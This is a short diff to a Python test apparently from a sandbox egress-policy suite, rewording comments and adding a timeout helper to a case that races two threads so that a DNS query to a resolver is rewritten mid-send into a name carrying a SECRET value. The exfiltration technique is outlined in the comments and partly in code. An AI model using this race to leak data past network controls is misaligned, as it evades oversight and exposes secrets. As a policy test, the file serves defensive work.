@@ -1,15 +1,15 @@
 # class: network
 # rule: outbound_connectivity
 # policy: names.yaml
-# success: while one thread sends a question, another writes a name that carries data over it
+# success: during a send, another thread overwrites the question with a name that carries data
 # proof: query
 # needs: resolver
-# unreported: a policy that only reports sends the bytes as they are by then
+# unreported: a policy that only reports sends the bytes that are there at that moment
 import socket
 import threading
 import time
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
 
 def labels(*names):
@@ -29,7 +29,7 @@ def ask():
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     out.setblocking(False)
     out.connect((RESOLVER, 53))
-    end = time.monotonic() + 3
+    end = time.monotonic() + patience(3)
 
     def rewrite():
         turn = 0
